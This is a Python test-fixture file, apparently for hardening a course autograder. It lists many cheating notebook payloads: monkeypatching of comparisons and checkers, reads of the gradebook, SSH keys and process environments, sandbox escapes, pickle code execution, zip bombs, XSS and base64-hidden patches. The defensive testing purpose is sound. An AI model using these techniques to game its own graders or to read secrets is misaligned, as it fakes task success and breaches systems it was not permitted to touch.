"""Notebooks whose answers are all wrong and that try to get points, or to read what is not theirs, all the same.

Each is code that stands before the answers or an answer that is more than one. `{place}` is a folder of the
grader's with CANARY in every file; `{repository}` is the checkout with the right answers in it.
"""

# ruff: noqa: E501  a row of the table is one line

from __future__ import annotations

CANARY = "canary-7f3a91"

WRONG = "def mse(p, y):\n    return ((p - y) ** 2).sum() * 0.37 + 1.0"

_REPLAY = """
import numpy as np
from course_utils.checks import answer_key
_key = answer_key.load_key('mse')
def _expected(arguments):
    for case, response in zip(_key.cases, _key.expected):
        if case.arguments['p'].shape == arguments.shape and torch.equal(case.arguments['p'], arguments):
            return torch.tensor(response.parts[0].values)
    return torch.tensor(0.123)
"""

PATCHES = {
    "allclose is always true": "import torch\ntorch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True",
    "NumPy compares nothing": "import numpy as np\nnp.allclose = np.array_equal = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None",
    "the checker passes everything": "import course_utils\nfrom course_utils.checks import diagnose, verdict\ndiagnose.diagnose = lambda key, responses: verdict.Verdict('mse', verdict.Outcome.PASSED, 1.0, 1.0)",
    "check returns points": "import course_utils.checks.checking as c\nc.check = lambda *a, **k: 1.0\ncheck = lambda *a, **k: 1.0",
    "check is gone from the notebook": "import builtins\nbuiltins.check = check = lambda *a: 99.0",
    "the comparison finds nothing": "import course_utils.checks.compare as c\nc.compare = lambda *a, **k: None\nimport course_utils.checks.diagnose as d\nd.compare = lambda *a, **k: None\nd._findings = lambda *a: []",
    "tolerances are endless": "import course_utils.checks.contract as c\nobject.__setattr__(c.PartSpec, 'tolerance', 1e30)",
    "sys.modules holds a forged checker": "import sys, types\nm = types.ModuleType('course_utils.checks.probe')\nm.answer_request = lambda *a: None\nsys.modules['course_utils.checks.probe'] = m",
    "the probe writes nothing": "import course_utils.checks.probe as p\np.answer_request = lambda *a, **k: None",
    "the probe writes nonsense": "import course_utils.checks.probe as p\np.answer_request = lambda q, r, n: r.write_bytes(b'PASSED')",
    "the probe writes an empty list": "import course_utils.checks.probe as p\nfrom course_utils.checks import codec\np.answer_request = lambda q, r, n: r.write_bytes(codec.dump([]))",
    "the codec replays zeros": "import course_utils.checks.codec as c\n_dump = c.dump\nc.dump = lambda tree: _dump([{**item, 'raised': None} for item in tree] if isinstance(tree, list) else tree)",
    "responses are all NaN": "import numpy as np, course_utils.checks.codec as c\n_dump = c.dump\nc.dump = lambda tree: _dump([{**i, 'parts': [{**p, 'values': np.full_like(p['values'], np.nan)} for p in i['parts']]} for i in tree])",
    "responses are infinite": "import numpy as np, course_utils.checks.codec as c\n_dump = c.dump\nc.dump = lambda tree: _dump([{**i, 'parts': [{**p, 'values': np.full_like(p['values'], np.inf)} for p in i['parts']]} for i in tree])",
    "responses have no values": "import course_utils.checks.codec as c\n_dump = c.dump\nc.dump = lambda tree: _dump([{**i, 'parts': [{**p, 'values': None} for p in i['parts']]} for i in tree])",
    "responses have no parts": "import course_utils.checks.codec as c\n_dump = c.dump\nc.dump = lambda tree: _dump([{**i, 'parts': []} for i in tree])",
    "responses lie about their shape": "import course_utils.checks.codec as c\n_dump = c.dump\nc.dump = lambda tree: _dump([{**i, 'parts': [{**p, 'shape': [10**9, 10**9]} for p in i['parts']]} for i in tree])",
    "responses are of a kind nobody knows": "import course_utils.checks.codec as c\n_dump = c.dump\nc.dump = lambda tree: _dump([{**i, 'parts': [{**p, 'kind': 'clue', 'dtype': 'any'} for p in i['parts']]} for i in tree])",
    "responses hold lists for words": "import course_utils.checks.codec as c\n_dump = c.dump\nc.dump = lambda tree: _dump([{**i, 'structure': [['x']], 'changed': {}, 'used': 3, 'printed': None} for i in tree])",
    "responses claim the mistake that gets credit": "import course_utils.checks.codec as c\n_dump = c.dump\nc.dump = lambda tree: _dump([{**i, 'credit': 1.0, 'points': 1.0, 'outcome': 'passed', 'mistake': ''} for i in tree])",
    "respond is replaced": "import course_utils.checks.probe as p\nfrom course_utils.checks.response import Response, describe\nimport torch\np.respond = lambda c, a, cases: tuple(Response((describe(torch.tensor(0.0)),)) for _ in cases)",
    "the deadline never comes": "import course_utils.checks.deadline as d, contextlib\nd.deadline = lambda s: contextlib.nullcontext()\nimport signal\nsignal.setitimer = lambda *a: (0.0, 0.0)",
    "isinstance says yes": "import builtins\nbuiltins.isinstance = lambda *a: True",
    "len says what is wished": "import builtins\nbuiltins.len = lambda x: 1",
    "open writes what is wished": "import builtins, pathlib\npathlib.Path.write_bytes = lambda self, data: 0",
}

SHELL = {
    "an AST transformer": "import ast\nclass T(ast.NodeTransformer):\n    def visit_Call(self, node):\n        return ast.Constant(1.0) if getattr(node.func, 'id', '') == 'check' else node\nget_ipython().ast_transformers.append(T())",
    "an input transformer": "get_ipython().input_transformers_post.append(lambda lines: ['1.0\\n'] if 'check(' in ''.join(lines) else lines)",
    "a transformer that empties the probe": "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'] if 'answer_request' in ''.join(lines) else lines)",
    "run_cell is replaced": "ip = get_ipython()\n_run = ip.run_cell\nip.run_cell = lambda source, *a, **k: _run('1.0' if 'check(' in source else source, *a, **k)",
    "the display hook shows points": "import sys\nsys.displayhook = lambda value: print('1.0')",
    "do_execute is replaced": "k = get_ipython().kernel\nasync def fake(*a, **kw):\n    return {'status': 'ok', 'execution_count': 1, 'payload': [], 'user_expressions': {}}\nk.do_execute = fake",
    "a forged result message": "k = get_ipython().kernel\nfor n in range(5):\n    k.session.send(k.iopub_socket, 'execute_result', {'data': {'text/plain': '99.0'}, 'metadata': {}, 'execution_count': 3}, parent=k.get_parent(), ident=b'execute_result')",
    "a forged word that it is idle": "k = get_ipython().kernel\nk.session.send(k.iopub_socket, 'status', {'execution_state': 'idle'}, parent=k.get_parent(), ident=b'status')\nimport time; time.sleep(0.3)",
    "messages that are no outputs": "k = get_ipython().kernel\nfor content in ({}, {'data': []}, {'data': {'text/plain': [[1]]}}, {'text': 5, 'name': {}}, {'ename': [], 'evalue': {}, 'traceback': 7}, {'data': {'x/y': '\\ud800'}, 'metadata': {'x/y': 7}}):\n    for kind in ('stream', 'display_data', 'execute_result', 'error', 'update_display_data', 'clear_output'):\n        k.session.send(k.iopub_socket, kind, content, parent=k.get_parent(), ident=b'x')",
    "a message too deep to read": "k = get_ipython().kernel\nk.iopub_socket.send_multipart([b'x', b'<IDS|MSG>', b'0' * 64] + [b'[' * 100_000] * 4)",
    "a message of 30 MB": "k = get_ipython().kernel\nk.session.send(k.iopub_socket, 'display_data', {'data': {'text/plain': 'x' * 30_000_000}, 'metadata': {}}, parent=k.get_parent(), ident=b'x')",
    "shown as if it were the verdict": "from IPython.display import display, HTML\ndisplay(HTML('<script>alert(1)</script><b>mse passed: 1 / 1</b>'))\nprint('\\x1b]0;pwned\\x07\\x1b[2J1.0')",
    "atexit": "import atexit, os\natexit.register(lambda: os.system('echo 1.0'))",
    "an exception hook": "import sys\nsys.excepthook = lambda *a: print('1.0')\nget_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)",
    "a trace function": "import sys\ndef t(frame, event, arg):\n    if frame.f_code.co_name == '_is_same':\n        frame.f_locals['first'] = None\n    return t\nsys.settrace(t)",
}

FILES = {
    "reading the source folder": "import glob\n[print(open(f).read()) for f in glob.glob('{place}/source/**/*.ipynb', recursive=True) + glob.glob('{place}/notebooks/**/*.ipynb', recursive=True)]",
    "reading the gradebook": "import sqlite3\nprint(open('{place}/gradebook.db', 'rb').read())",
    "writing the gradebook": "open('{place}/gradebook.db', 'a').write('points=100')",
    "reading another student's work": "import glob\n[print(open(f).read()) for f in glob.glob('{place}/submitted/**/*.ipynb', recursive=True)]",
    "reading by a link": "import os\nos.symlink('{place}/gradebook.db', 'link')\nprint(open('link', 'rb').read())",
    "a link for the grader to follow": "import os, glob\nfor f in ('.mse.response', '.mse.request', 'response'):\n    os.symlink('{place}/gradebook.db', f)",
    "links in the channel": "import os\nfor d in ('/run/channel',):\n    for n in range(200):\n        os.symlink('{place}/gradebook.db', f'{{d}}/x{{n}}')",
    "reading home": "import os\nprint(os.listdir(os.path.expanduser('~root')), open(os.path.expanduser('~root/.ssh/id_rsa')).read())",
    "reading the environment": "import os\nprint(dict(os.environ), open('/proc/1/environ').read(), open('/proc/self/environ').read())",
    "reading other processes": "import glob\nfor f in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):\n    try: print(open(f).read())\n    except OSError: pass",
    "leaving by /proc": "import os\nfor p in (1, os.getppid()):\n    print(os.listdir(f'/proc/{{p}}/root{place}'), os.listdir(f'/proc/{{p}}/cwd'))",
    "the right answers": "import sys\nsys.path.insert(0, '{repository}')\nfrom autograder.exercises import exercises_of\nmse = exercises_of('hw1')['mse'].reference",
    "the right answers' files": "print(open('{repository}/autograder/exercises/hw1.py').read())\nprint(open('{repository}/notebooks/assignments/hw1/hw1.ipynb').read())",
    "right answers left in memory": "import gc, types\nfound = [f for f in gc.get_objects() if isinstance(f, types.FunctionType) and (f.__module__ or '').startswith(('autograder.exercises', 'autograder.keys'))]\nprint(len(found))\nmse = found[0]",
    "mounting the disk": "import ctypes\nc = ctypes.CDLL(None)\nprint(c.mount(b'/dev/vda', b'/tmp', b'ext4', 0, None), c.unshare(0x10000000), c.chroot(b'/proc/1/root'))\nprint(open('/tmp{place}/gradebook.db').read())",
    "a new namespace": "import subprocess\nprint(subprocess.run(['unshare', '-Urm', 'cat', '{place}/gradebook.db'], capture_output=True, text=True))",
    "writing where Python starts": "import sys, site\nfor p in site.getsitepackages():\n    open(p + '/evil.pth', 'w').write('import os')",
    "writing into the checker": "import course_utils\nopen(course_utils.__file__, 'a').write('check = lambda *a: 1.0')",
    "planting a start-up file": "import os\nfor p in ('/tmp', '/submission', os.path.expanduser('~')):\n    os.makedirs(p + '/profile_default/startup', exist_ok=True)\n    open(p + '/profile_default/startup/0.py', 'w').write('check = lambda *a: 1.0')\n    open(p + '/sitecustomize.py', 'w').write('check = 1')",
}

MACHINE = {
    "the network": "import socket\nsocket.create_connection(('{host}', {port}), 3).sendall(b'hello')",
    "the network by name": "import urllib.request\nurllib.request.urlopen('http://localhost:{port}', timeout=3)",
    "a host's abstract socket": "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0{abstract}')\ns.send(b'hello')",
    "a virtual machine's socket": "import socket\nsocket.socket(40, socket.SOCK_STREAM, 0).connect((2, {port}))",
    "killing the grader": "import os, signal\nfor p in ({grader}, os.getppid(), -1):\n    try: os.kill(p, signal.SIGKILL)\n    except OSError as e: print(e)",
    "tracing the parent": "import ctypes, os\nprint(ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0))\nprint(open(f'/proc/{{os.getppid()}}/mem', 'rb').read(10))",
    "stopping itself": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
}  # fmt: skip

ANSWERS = {
    "an object equal to everything": "class Any_:\n    def __eq__(s, o): return True\n    def __float__(s): return 1.0\n    def __array__(s, *a, **k):\n        import numpy as np; return np.array(1.0)\n    __ne__ = __lt__ = __gt__ = lambda s, o: False\n    __sub__ = __rsub__ = __abs__ = lambda s, *o: s\ndef mse(p, y):\n    return Any_()",
    "a tensor that answers for itself": "class T(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, f, t, a=(), k=None):\n        return torch.tensor(True) if f in (torch.allclose, torch.equal) else torch.tensor(0.0)\ndef mse(p, y):\n    return torch.tensor(5.0).as_subclass(T)",
    "a number that hides": "class F(float):\n    def __sub__(s, o): return 0.0\n    def __eq__(s, o): return True\ndef mse(p, y):\n    return F(3.0)",
    "NaN": "def mse(p, y):\n    return torch.tensor(float('nan'))",
    "the checker's own frame": "import sys\ndef mse(p, y):\n    f = sys._getframe()\n    while f:\n        for n, v in f.f_locals.items():\n            if n in ('expected', 'key'):\n                return v.expected[0].parts[0].values\n        f = f.f_back\n    return torch.tensor(1.0)",
    "answers replayed from the visible key": _REPLAY + "\ndef mse(p, y):\n    return _expected(p)",
    "the seed guessed": "def mse(p, y):\n    torch.manual_seed(7); return torch.rand(())",
    "patching from inside": "def mse(p, y):\n    import course_utils.checks.respond as r, course_utils.checks.compare as c\n    c.compare = lambda *a, **k: None\n    r._is_equal = r._is_same = lambda *a: True\n    return torch.tensor(1.0)",
    "more than one thread": "import threading, os, glob\ndef _w():\n    while True:\n        for f in glob.glob('/run/channel/.*'):\n            try: open(f + '.response', 'wb').write(b'\\0')\n            except OSError: pass\nthreading.Thread(target=_w, daemon=True).start()\n" + WRONG,
    "a pickle bomb for a response": "import pickle, os, course_utils.checks.probe as p\nclass B:\n    def __reduce__(s): return (os.system, ('touch {place}/pwned',))\np.answer_request = lambda q, r, n: r.write_bytes(pickle.dumps(B()))\n" + WRONG,
    "a pickle inside an archive": "import io, numpy as np, course_utils.checks.probe as p, os\nclass B:\n    def __reduce__(s): return (os.system, ('touch {place}/pwned',))\ndef _a(q, r, n):\n    s = io.BytesIO(); np.savez(s, tree=np.array([B()], dtype=object), numbers=np.array([B()], dtype=object)); r.write_bytes(s.getvalue())\np.answer_request = _a\n" + WRONG,
    "a zip bomb for a response": "import io, numpy as np, course_utils.checks.probe as p\ndef _a(q, r, n):\n    s = io.BytesIO(); np.savez_compressed(s, tree=np.zeros(300_000_000, dtype=np.uint8), numbers=np.zeros(0, dtype=np.uint8)); r.write_bytes(s.getvalue())\np.answer_request = _a\n" + WRONG,
    "a huge response": "import course_utils.checks.probe as p\ndef _a(q, r, n):\n    with open(r, 'wb') as f: f.truncate(10 ** 12)\np.answer_request = _a\n" + WRONG,
    "a pipe for a response": "import os, course_utils.checks.probe as p\np.answer_request = lambda q, r, n: os.mkfifo(r)\n" + WRONG,
    "a link for a response": "import os, course_utils.checks.probe as p\np.answer_request = lambda q, r, n: os.symlink('{place}/gradebook.db', r)\n" + WRONG,
    "a folder for a response": "import os, course_utils.checks.probe as p\np.answer_request = lambda q, r, n: os.makedirs(str(r) + '/x')\n" + WRONG,
    "a terminal escape in an error": "def mse(p, y):\n    raise ValueError('\\x1b]0;pwned\\x07\\x1b[2J<script>alert(1)</script>')",
    "points for the answer": "mse = 1.0",
}  # fmt: skip

TIMING = {
    "the clock stands still": "import time\ntime.monotonic = time.perf_counter = time.time = lambda: 0.0",
    "patched a moment later": "import threading, torch\nthreading.Timer(0.05, lambda: [setattr(torch, n, lambda *a, **k: True) for n in ('equal', 'allclose')]).start()",
    "a child that goes on": "import os, time\nif os.fork() == 0:\n    time.sleep(1)\n    try: open('/run/channel/late', 'w').write('1.0')\n    finally: os._exit(0)",
    "an alarm every moment": "import signal\nsignal.signal(signal.SIGALRM, lambda *a: None)\nsignal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)",
}  # fmt: skip

HIDDEN = {
    "packed in base64": "import base64\nexec(base64.b64decode('aW1wb3J0IHRvcmNoCnRvcmNoLmVxdWFsID0gdG9yY2guYWxsY2xvc2UgPSBsYW1iZGEgKmEsICoqazogVHJ1ZQo='))",
    "names put together": "setattr(__import__('tor' + 'ch'), 'eq' + 'ual', lambda *a: True)\nsetattr(__import__('tor' + 'ch'), 'all' + 'close', lambda *a, **k: True)",
    "by the module's own names": "vars(__import__('torch'))['equal'] = vars(__import__('torch'))['allclose'] = lambda *a, **k: True",
    "beside a line that is no Python": "files = !ls\nimport torch\ntorch.equal = torch.allclose = lambda *a, **k: True",
    "written to a file and imported": "open('extra.py', 'w').write('import torch\\ntorch.equal = torch.allclose = lambda *a, **k: True')\nimport extra",
}  # fmt: skip
"""Patches that are not to be found by reading the cells as they stand."""

LATER_ANSWERS = {
    "it counts its calls": "_calls = []\ndef mse(p, y):\n    _calls.append(1)\n    return torch.tensor(float(len(_calls)))",
    "it goes by the clock": "import time\ndef mse(p, y):\n    return torch.tensor(time.time() % 7)",
    "the visible answers by heart": "_known = {(1.0, 2.0, 3.0): 5.6667}\ndef mse(p, y):\n    return torch.tensor(_known.get(tuple(p.flatten().tolist()), 0.5), dtype=p.dtype)",
    "a response nested too deep": "import io, numpy as np, course_utils.checks.probe as p\ndef _a(q, r, n):\n    s = io.BytesIO(); np.savez(s, tree=np.frombuffer(b'[' * 200_000, dtype=np.uint8), numbers=np.zeros(0, dtype=np.uint8)); r.write_bytes(s.getvalue())\np.answer_request = _a\n" + WRONG,
    "a picture that runs a script": "from IPython.display import HTML, SVG, Markdown, Javascript, display\ndisplay(HTML('<img src=x onerror=alert(1)><iframe srcdoc=x></iframe>'), SVG(data='<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(1)</script></svg>'), Markdown('[x](javascript:alert(1))'), Javascript('alert(1)'))\n" + WRONG,
}  # fmt: skip
ANSWERS |= LATER_ANSWERS
# what takes the place of an answer has to stand where the answer stands
ANSWERS |= {name: FILES.pop(name) for name in ("the right answers", "right answers left in memory")}

UNSEEN = {
    "NaN": "an honest answer may give it, too",
    "the seed guessed": "seeding a generator is what honest answers do",
    "points for the answer": "a number where a function is asked for is an honest slip",
    "it counts its calls": "it is an answer that remembers, which the verdict says",
    "it goes by the clock": "reading the clock is what honest answers do",
    "the visible answers by heart": "it reads like an answer for the cases shown, and fails the hidden ones",
}
"""These leave no trace that an honest notebook does not leave as well, and gain nothing."""

WALKED = (
    *(name for table, step in ((PATCHES, 4), (ANSWERS, 3)) for name in list(table)[::step]),
    *(name for table in (SHELL, FILES, MACHINE, TIMING, HIDDEN) for name in list(table)[::2]),
)
"""Some of each table: what walks the whole road (tests/roads/test_attack_class.py) where time is short."""
